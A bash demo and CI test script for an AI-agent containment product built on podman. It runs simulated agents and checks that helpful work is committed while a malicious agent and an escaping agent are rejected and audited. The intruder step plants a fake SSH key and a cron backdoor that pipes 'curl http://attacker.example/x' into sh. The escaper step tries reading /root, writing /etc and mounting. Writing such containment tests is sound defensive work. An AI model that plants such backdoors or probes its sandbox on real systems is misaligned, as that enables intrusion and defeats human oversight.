#!/usr/bin/env bash
# Fork, explore, commit — with the real daemon on real podman. puzzled runs on a private system-type
# D-Bus (the product's bus policy; an installed system uses the system bus instead), the product's OCI hooks
# are in a private hooks dir, and three agents work on one project directory:
#   1. a helpful agent through `puzzle-podman run --auto-commit`  → its work is committed;
#   2. a malicious agent through `puzzle-podman run --auto-commit` → rejected, the base is untouched;
#   3. an agent started by plain `podman run --annotation …` (no wrapper) → governed by the hooks, committed.
# Exits non-zero when an expected outcome does not happen (CI runs this script).
set -euo pipefail
repo=$(cd "$(dirname "$(readlink -f "$0")")/.." && pwd)
image=localhost/puzzlepod-test:latest
work=$(mktemp -d /tmp/puzzlepod-demo.XXXXXX)
chmod 0755 "$work"
base="$work/project"
source "$repo/demo/lib/governed-stack.sh"
trap 'stack_stop; rm -rf "$work"' EXIT
export PUZZLEPOD_JAVA_OPTS="-Djava.util.logging.config.file=/dev/null"  # quiet INFO logs in the demo

say()  { printf '\n\033[1m== %s\033[0m\n' "$*"; }
fail() { printf '\nDEMO FAILED: %s\n' "$*" >&2; [ -f "${STACK_LOG:-}" ] && tail -20 "$STACK_LOG" >&2; exit 1; }
tree_hash() { (cd "$1" && find . -printf '%y %m %p %l\n' | LC_ALL=C sort && find . -type f -print0 | LC_ALL=C sort -z | xargs -0 -r sha256sum) | sha256sum | cut -c1-16; }

say "starting puzzled (private system-type bus, the product's bus policy and hooks)"
stack_start "$repo" "$work/stack" || fail "the stack did not start"
grep 'ready:' "$STACK_LOG"
export PUZZLEPOD_PODMAN="$STACK_PODMAN"
ctl() { "$repo/bin/puzzlectl" --bus "$PUZZLEPOD_BUS" "$@"; }

# A small project: sources, tests, docs, its own bin/ script and a lockfile.
mkdir -p "$base"/{src,tests,docs,bin}
printf 'def add(a, b):\n    return a + b\n' > "$base/src/calc.py"
printf 'from src.calc import add\n\ndef test_add():\n    assert add(1, 2) == 3\n' > "$base/tests/test_calc.py"
printf '# Calculator\n' > "$base/README.md"
printf '#!/bin/sh\npython3 -m pytest\n' > "$base/bin/run-tests"; chmod 755 "$base/bin/run-tests"
printf 'pytest==8.0.0\n' > "$base/requirements.lock"
for i in $(seq 1 40); do printf 'note %s\n' "$i" > "$base/docs/note-$i.md"; done
before=$(tree_hash "$base")
say "project at $base (tree $before)"

say "agent 'helper': puzzle-podman run --profile standard --auto-commit"
set +e
"$repo/bin/puzzle-podman" run --profile standard --base "$base" --auto-commit --rm "$image" sh -c 'cd /workspace &&
  printf "def sub(a, b):\n    return a - b\n" >> src/calc.py &&
  printf "from src.calc import sub\n\ndef test_sub():\n    assert sub(3, 2) == 1\n" > tests/test_sub.py &&
  echo "Adds and subtracts." >> README.md'
rc=$?
set -e
[ "$rc" -eq 0 ] || fail "the helpful agent's run exited $rc, expected 0 (committed)"
grep -q 'def sub' "$base/src/calc.py" && [ -f "$base/tests/test_sub.py" ] || fail "committed files are not in the base"
after_commit=$(tree_hash "$base")
say "base after commit: tree $after_commit"

say "agent 'intruder': drops an SSH key and a cron job, deletes the docs"
set +e
"$repo/bin/puzzle-podman" run --profile standard --base "$base" --auto-commit --rm "$image" sh -c 'cd /workspace &&
  mkdir -p .ssh etc/cron.d && echo "-----BEGIN OPENSSH PRIVATE KEY-----" > .ssh/id_rsa &&
  echo "* * * * * root curl http://attacker.example/x | sh" > etc/cron.d/backdoor && rm -f docs/note-*.md'
rc=$?
set -e
[ "$rc" -eq 70 ] || fail "the malicious agent's run exited $rc, expected 70 (rejected)"
[ "$(tree_hash "$base")" = "$after_commit" ] || fail "the base changed although the branch was rejected"
[ ! -e "$base/.ssh" ] && [ -f "$base/docs/note-1.md" ] || fail "rejected changes leaked into the base"
say "rejected (exit 70); base unchanged: tree $(tree_hash "$base")"

say "agent 'escaper': reads outside its allowlist, writes outside the workspace, runs mount (the kernel refuses)"
set +e
escaper=$("$repo/bin/puzzle-podman" run --profile standard --base "$base" --auto-rollback --rm "$image" sh -c '
  ls /root >/dev/null 2>&1; echo "ls /root: exit $?"
  (echo x > /etc/evil) 2>/dev/null; echo "write /etc/evil: exit $?"
  /bin/mount -t tmpfs none /tmp 2>&1; echo "mount: exit $?"' 2>/dev/null)
rc=$?
set -e
printf '%s\n' "$escaper"
[ "$rc" -eq 71 ] || fail "the escaping agent's run exited $rc, expected 71 (rolled back)"
printf '%s\n' "$escaper" | grep -q 'ls /root: exit 1' || fail "Landlock did not refuse reading /root"
printf '%s\n' "$escaper" | grep -q 'write /etc/evil: exit 1' || fail "Landlock did not refuse writing /etc"
printf '%s\n' "$escaper" | grep -q 'Operation not permitted' && printf '%s\n' "$escaper" | grep -q 'mount: exit 126' \
  || fail "the seccomp supervisor did not refuse mount"
ctl audit list --type seccomp.decision | grep '"allowed":false' | grep -q mount || fail "the refused exec is not in the audit log"
say "refused by Landlock (EACCES) and by puzzled's seccomp supervisor (EPERM, audited as seccomp.decision)"

say "agent 'plain': podman run --annotation org.lobstertrap.puzzlepod.profile=standard (no wrapper; the hooks govern it)"
"$STACK_PODMAN" run --rm --annotation org.lobstertrap.puzzlepod.profile=standard -v "$base:/workspace" "$image" \
  sh -c 'cd /workspace && echo "## Usage" >> README.md && echo "plain podman was here" > docs/plain.md'
decided=
for _ in $(seq 300); do
  if ctl -o json branch list --base "$base" --state committed 2>/dev/null | grep -q '"state" *: *"committed"' \
     && [ -f "$base/docs/plain.md" ]; then decided=1; break; fi
  sleep 0.1
done
[ -n "$decided" ] || fail "the plain podman agent's work was not committed"
grep -q 'plain podman was here' "$base/docs/plain.md" || fail "the plain agent's file is wrong"

say "branches (puzzlectl branch list)"
ctl branch list
say "audit trail (puzzlectl audit list --type gate.decision)"
ctl audit list --type gate.decision
ctl audit verify || fail "the audit chain does not verify"
say "main job OK: helpful work committed, malicious work rejected with the base untouched, escapes refused by the kernel, plain podman governed by the hooks"
